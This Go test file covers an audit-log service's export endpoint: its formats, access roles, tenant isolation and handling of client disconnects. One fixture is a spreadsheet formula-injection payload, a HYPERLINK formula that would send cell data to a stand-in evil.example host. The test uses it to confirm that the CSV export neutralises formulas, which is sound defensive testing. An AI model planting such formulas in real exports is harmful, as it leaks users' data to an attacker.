package server

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/auditlog/auditlog/internal/audit"
	"github.com/auditlog/auditlog/internal/export"
	"github.com/auditlog/auditlog/internal/sqlstore"
	"github.com/auditlog/auditlog/internal/sqlstore/sqltest"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata instead of checking against them")

// exportFile is one export as fetched over HTTP.
type exportFile struct {
	status int
	header http.Header
	body   []byte
}

// fetchExport fetches GET /api/audit-logs/export?query as c, with the
// extra headers given as name, value pairs.
func fetchExport(t *testing.T, c *client, query string, hdr ...string) exportFile {
	t.Helper()
	req, err := http.NewRequest("GET", c.env.ts.URL+"/api/audit-logs/export?"+query, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	if c.bearer != "" {
		req.Header.Set("Authorization", "Bearer "+c.bearer)
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return exportFile{resp.StatusCode, resp.Header, body}
}

// exportEvents are the events the export tests add to a tenant: two
// actions, text a spreadsheet would run as a formula, text in several
// scripts, an emoji, a line break, metadata and changes.
func exportEventsFor(accountID int64) []*audit.Event {
	base := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
	var evs []*audit.Event
	for i := range 6 {
		evs = append(evs, &audit.Event{
			AccountID: accountID, Action: []string{"order_refunded", "product_created"}[i%2], ResourceType: "order",
			ResourceID: fmt.Sprintf("ord_%d", i), Details: fmt.Sprintf("event %d", i), IPAddress: "203.0.113.5",
			ActorType: "customer", ActorID: fmt.Sprintf("cust_%d", i), ActorName: "Zoë Łukasiewicz 山田", ActorEmail: "zoe@example.net",
			Outcome: audit.OutcomeSuccess, OccurredAt: base.Add(time.Duration(i) * time.Hour),
		})
	}
	evs[2].Details = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	evs[3].Details = "+1+2 and -3 @SUM(A1:A2)"
	evs[4].Details = "Zwei Zeilen:\nzweite Zeile — 日本語 🙂 مرحبا"
	evs[4].Metadata = []byte(`{"amount":"42.00","note":"<b>&</b>"}`)
	evs[5].Changes = []byte(`[{"field":"status","old":"paid","new":"refunded"}]`)
	evs[5].Outcome = audit.OutcomeFailure
	return evs
}

// stable returns an export with the values that differ between runs
// (IDs, times, hashes, salts, signatures, the account) replaced by
// placeholders, for a golden file of its structure.
func stableNDJSON(t *testing.T, file []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	for line := range bytes.Lines(file) {
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		for _, k := range []string{"id", "created_at", "salt", "commitment", "leaf_hash", "root_hash", "checkpoint", "exported_at", "origin", "account_id"} {
			if _, ok := m[k]; ok {
				m[k] = "<" + k + ">"
			}
		}
		if p, ok := m["proof"].([]any); ok {
			m["proof"] = fmt.Sprintf("<%d hashes>", len(p))
		}
		enc := json.NewEncoder(&out) // sorted keys, one line each
		enc.SetEscapeHTML(false)
		enc.Encode(m)
	}
	return out.Bytes()
}

// stableCSV is stableNDJSON for a CSV export.
func stableCSV(t *testing.T, file []byte) []byte {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for i, col := range export.CSVColumns {
			switch col {
			case "id", "created_at", "leaf_hash":
				r[i] = "<" + col + ">"
			case "actor_id", "user_id", "actor_email", "actor_name", "user_agent", "ip_address", "resource_id", "details":
				// The account's own events name its owner and the test
				// client, whose IDs differ by engine.
				if r[i] != "" && rows[0][6] != "" && r[4] != "order_refunded" && r[4] != "product_created" {
					r[i] = "<" + col + ">"
				}
			}
		}
	}
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	w.UseCRLF = true
	w.WriteAll(rows)
	return out.Bytes()
}

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run the test with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (run with -update if the change is intended):\n got:\n%s\nwant:\n%s", path, got, want)
	}
}

// TestExportFormats fetches each format through HTTP on every engine: its
// headers, its structure against golden files, the filters, formula text
// made inert in the CSV, Unicode intact, another account's data absent, the
// export's audit record, and an empty selection.
func TestExportFormats(t *testing.T) {
	sqltest.Run(t, func(t *testing.T, db *sqlstore.DB) {
		e := newTestEnv(t, db)
		tn := e.newTenant("acme")
		other := e.newTenant("other")
		e.appendEvents(&audit.Event{AccountID: other.accountID, Action: "order_refunded", Details: "other's secret"})
		e.appendEvents(exportEventsFor(tn.accountID)...)
		vkey := sqltest.Signer(t).VerifierKey()
		const filter = "action=order_refunded&resource_type=order&start_date=2026-01-01T00:00:00Z"

		// NDJSON, filtered: verifies, and its structure is the golden one.
		f := fetchExport(t, tn.owner, "format=ndjson&"+filter)
		if f.status != 200 || f.header.Get("Content-Type") != "application/x-ndjson" {
			t.Fatalf("ndjson export: %d %q\n%s", f.status, f.header.Get("Content-Type"), f.body)
		}
		rep, err := export.Verify(bytes.NewReader(f.body), vkey)
		if err != nil || rep.Events != 3 || rep.Complete {
			t.Fatalf("filtered ndjson: report %+v, err %v", rep, err)
		}
		golden(t, "export-filtered.ndjson", stableNDJSON(t, f.body))
		wantDisposition(t, f, `attachment; filename="audit-log-acme.example.com-from-2026-01-01-filtered.ndjson"`)
		if f.header.Get("X-Export-Events") != "3" || f.header.Get("Cache-Control") != "no-store" {
			t.Errorf("ndjson headers %v", f.header)
		}

		// CSV, every event: formula text inert, Unicode and line breaks
		// intact, no other account's data; the structure is the golden one.
		f = fetchExport(t, tn.owner, "format=csv")
		if f.status != 200 || f.header.Get("Content-Type") != "text/csv; charset=utf-8" {
			t.Fatalf("csv export: %d %q\n%s", f.status, f.header.Get("Content-Type"), f.body)
		}
		if bytes.Contains(f.body, []byte("other's secret")) || bytes.Contains(f.body, []byte("other.example.com")) {
			t.Error("csv export holds another account's data")
		}
		rows, err := csv.NewReader(bytes.NewReader(f.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		details := slices.Index(export.CSVColumns, "details")
		var got []string
		for _, r := range rows[1:] {
			got = append(got, r[details])
		}
		for _, want := range []string{
			`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1+2 and -3 @SUM(A1:A2)", "Zwei Zeilen:\nzweite Zeile — 日本語 🙂 مرحبا",
		} {
			if !slices.Contains(got, want) {
				t.Errorf("csv details lack %q: %q", want, got)
			}
		}
		golden(t, "export.csv", stableCSV(t, f.body))
		size := f.header.Get("X-Export-Tree-Size")
		wantDisposition(t, f, `attachment; filename="audit-log-acme.example.com-size-`+size+`.csv"`)
		if bytes.HasPrefix(f.body, []byte("\uFEFF")) {
			t.Error("csv without bom=1 starts with a BOM")
		}
		if f = fetchExport(t, tn.owner, "format=csv&bom=1&action=nothing"); !bytes.Equal(f.body, []byte("\uFEFF"+strings.Join(export.CSVColumns, ",")+"\r\n")) {
			t.Errorf("empty csv with BOM: %q", f.body)
		}

		// PDF: the report names the account, the selection, the caller and
		// the checkpoint, and holds the events' text.
		f = fetchExport(t, tn.owner, "format=pdf&action=order_refunded")
		if f.status != 200 || f.header.Get("Content-Type") != "application/pdf" || !bytes.HasPrefix(f.body, []byte("%PDF-")) {
			t.Fatalf("pdf export: %d %q", f.status, f.header.Get("Content-Type"))
		}
		if text := pdfText(t, f.body); text != "" {
			for _, want := range []string{"acme Store", "acme.example.com", "Action is order_refunded", "Olga acme", "owner@acme.example.com", "Zoë", "HYPERLINK", vkey[:20]} {
				if !strings.Contains(text, want) {
					t.Errorf("pdf text lacks %q", want)
				}
			}
			if strings.Contains(text, "product_created") {
				t.Error("pdf report of order_refunded lists product_created")
			}
		}
		// An empty selection is still a report, and an NDJSON file with its
		// header and end line.
		f = fetchExport(t, tn.owner, "format=pdf&action=nothing")
		if f.status != 200 || !bytes.HasPrefix(f.body, []byte("%PDF-")) {
			t.Errorf("empty pdf export: %d", f.status)
		}
		f = fetchExport(t, tn.owner, "action=nothing")
		if rep, err := export.Verify(bytes.NewReader(f.body), vkey); err != nil || rep.Events != 0 {
			t.Errorf("empty ndjson export: %+v %v", rep, err)
		}

		// Each export recorded its format and count, newest first.
		r := tn.events(t, "action=audit_log_exported&per_page=10")
		var records []string
		for _, ev := range r.list("audit_logs") {
			records = append(records, ev.(map[string]any)["details"].(string))
		}
		wantPrefixes := []string{
			"Exported the audit log as NDJSON filtered by action=nothing: 0 events up to checkpoint",
			"Exported the audit log as PDF filtered by action=nothing: 0 events",
			"Exported the audit log as PDF filtered by action=order_refunded: 3 events",
			"Exported the audit log as CSV filtered by action=nothing: 0 events",
			"Exported the audit log as CSV: " + size + " events up to checkpoint " + size,
			"Exported the audit log as NDJSON filtered by action=order_refunded resource_type=order start_date=2026-01-01T00:00:00.000000Z: 3 events",
		}
		if len(records) != len(wantPrefixes) {
			t.Fatalf("export records %q", records)
		}
		for i, want := range wantPrefixes {
			if !strings.HasPrefix(records[i], want) {
				t.Errorf("export record %d = %q; want it to start %q", i, records[i], want)
			}
		}
	})
}

// wantDisposition checks an export's Content-Disposition.
func wantDisposition(t *testing.T, f exportFile, want string) {
	t.Helper()
	if got := f.header.Get("Content-Disposition"); got != want {
		t.Errorf("Content-Disposition %q; want %q", got, want)
	}
}

// pdfText returns the text pdftotext extracts from a PDF, or "" when
// pdftotext is not installed (outside CI).
func pdfText(t *testing.T, pdf []byte) string {
	t.Helper()
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("pdftotext not found (poppler-utils); CI must install it: %v", err)
		}
		t.Log("pdftotext not found: the PDF's text is not checked")
		return ""
	}
	file := filepath.Join(t.TempDir(), "report.pdf")
	if err := os.WriteFile(file, pdf, 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(bin, "-enc", "UTF-8", file, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v\n%s", err, out)
	}
	return strings.Join(strings.Fields(string(out)), " ")
}

// TestExportNegotiation checks how the format is chosen: the format
// parameter, else an unambiguous Accept header, else NDJSON; and the
// errors.
func TestExportNegotiation(t *testing.T) {
	db := sqltest.OpenSQLite(t)
	e := newTestEnv(t, db)
	tn := e.newTenant("acme")
	for _, tt := range []struct {
		query, accept, want string
	}{
		{"", "", "application/x-ndjson"},
		{"", "*/*", "application/x-ndjson"},
		{"", "text/csv", "text/csv; charset=utf-8"},
		{"", "application/pdf", "application/pdf"},
		{"", "application/x-ndjson", "application/x-ndjson"},
		{"", "text/html, text/csv;q=0.9, */*;q=0.1", "text/csv; charset=utf-8"},
		{"", "text/csv;q=0.5, application/pdf;q=0.9", "application/pdf"},
		{"", "text/csv, application/pdf", "application/x-ndjson"}, // ambiguous: the default
		{"", "text/csv;q=0", "application/x-ndjson"},
		{"format=csv", "application/pdf", "text/csv; charset=utf-8"}, // the parameter wins
		{"format=ndjson", "text/csv", "application/x-ndjson"},
	} {
		f := fetchExport(t, tn.owner, tt.query, "Accept", tt.accept)
		if f.status != 200 || f.header.Get("Content-Type") != tt.want {
			t.Errorf("?%s Accept %q: %d %q; want %q", tt.query, tt.accept, f.status, f.header.Get("Content-Type"), tt.want)
		}
	}
	tn.owner.do("GET", "/api/audit-logs/export?format=xlsx", nil).wantError(t, 400, "invalid", "format")
	tn.owner.do("GET", "/api/audit-logs/export?format=CSV", nil).wantError(t, 400, "invalid", "format")
	tn.owner.do("GET", "/api/audit-logs/export?format=csv&bom=yes", nil).wantError(t, 400, "invalid", "bom")
	tn.owner.do("GET", "/api/audit-logs/export?format=csv&user_id=x", nil).wantError(t, 400, "invalid", "user_id")
}

// TestExportRoles checks who may export: owners, admins and API keys with
// events:read; not analysts, content creators or keys without the scope.
func TestExportRoles(t *testing.T) {
	sqltest.Run(t, func(t *testing.T, db *sqlstore.DB) {
		e := newTestEnv(t, db)
		tn := e.newTenant("acme")
		admin, _ := e.addUser(tn, audit.RoleAdmin)
		analyst, _ := e.addUser(tn, audit.RoleAnalyst)
		creator, _ := e.addUser(tn, audit.RoleContentCreator)
		for _, format := range []string{"ndjson", "csv", "pdf"} {
			if f := fetchExport(t, admin, "format="+format); f.status != 200 {
				t.Errorf("admin %s export: %d", format, f.status)
			}
			analyst.do("GET", "/api/audit-logs/export?format="+format, nil).wantError(t, 403, "forbidden", "")
			creator.do("GET", "/api/audit-logs/export?format="+format, nil).wantError(t, 403, "forbidden", "")
		}
		key := func(scope string) *client {
			out := tn.owner.do("POST", "/api/api-keys", map[string]any{"name": "k-" + strings.ReplaceAll(scope, ":", "-"), "scopes": []string{scope}}).want(t, 201)
			c := e.client()
			c.bearer = out.body["key"].(string)
			return c
		}
		reader, writer := key(audit.ScopeEventsRead), key(audit.ScopeEventsWrite)
		if f := fetchExport(t, reader, "format=csv"); f.status != 200 {
			t.Errorf("events:read key csv export: %d %s", f.status, f.body)
		}
		if f := fetchExport(t, writer, "format=csv"); f.status != 403 {
			t.Errorf("events:write key csv export: %d; want 403", f.status)
		}
		if got := num(tn.events(t, "action=audit_log_exported").obj("pagination"), "total"); got != 4 {
			t.Errorf("%d exports recorded; want 4 (3 by the admin, 1 by the key)", got)
		}
	})
}

// logRecorder keeps the messages logged.
type logRecorder struct {
	mu   sync.Mutex
	msgs []string
}

func (l *logRecorder) Enabled(context.Context, slog.Level) bool { return true }
func (l *logRecorder) Handle(_ context.Context, r slog.Record) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.msgs = append(l.msgs, r.Message)
	return nil
}
func (l *logRecorder) WithAttrs([]slog.Attr) slog.Handler { return l }
func (l *logRecorder) WithGroup(string) slog.Handler      { return l }

func (l *logRecorder) has(msg string) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Contains(l.msgs, msg)
}

// TestExportClientGoesAway checks that when a client disconnects after the
// first bytes of a large export, the server stops the export instead of
// reading the rest of the log.
func TestExportClientGoesAway(t *testing.T) {
	sqltest.Run(t, func(t *testing.T, db *sqlstore.DB) {
		logs := &logRecorder{}
		e := newTestEnv(t, db, func(d *testDeps) { d.Logger = slog.New(logs) })
		tn := e.newTenant("acme")
		// 40,000 events of 500 characters: 20 MB or more in each format,
		// more than loopback's socket buffers hold, so the server cannot
		// finish before it notices that the client is gone.
		for range 40 {
			evs := make([]*audit.Event, 1000)
			for i := range evs {
				evs[i] = &audit.Event{AccountID: tn.accountID, Action: "order_created", Details: strings.Repeat("d", 500)}
			}
			e.appendEvents(evs...)
		}
		for _, format := range []string{"ndjson", "csv"} {
			ctx, cancel := context.WithCancel(context.Background())
			req, _ := http.NewRequestWithContext(ctx, "GET", e.ts.URL+"/api/audit-logs/export?format="+format, nil)
			resp, err := tn.owner.hc.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			line, err := bufio.NewReader(resp.Body).ReadString('\n')
			if err != nil || line == "" {
				t.Fatalf("%s: first line %q, %v", format, line, err)
			}
			cancel()
			resp.Body.Close()
			deadline := time.Now().Add(20 * time.Second)
			for !logs.has("export stopped: the client went away") && !logs.has("export failed") {
				if time.Now().After(deadline) {
					t.Fatalf("%s: the export did not stop when the client went away", format)
				}
				time.Sleep(10 * time.Millisecond)
			}
			logs.mu.Lock()
			logs.msgs = nil
			logs.mu.Unlock()
		}
	})
}
